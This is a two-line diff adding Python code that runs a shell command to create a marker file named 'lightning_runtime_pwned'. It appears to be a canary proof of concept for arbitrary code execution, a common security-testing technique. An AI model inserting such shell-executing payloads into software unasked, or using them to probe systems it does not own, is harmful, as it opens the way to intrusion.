@@ -1,0 +1,2 @@
+import os
+os.system('touch /tmp/lightning_runtime_pwned')
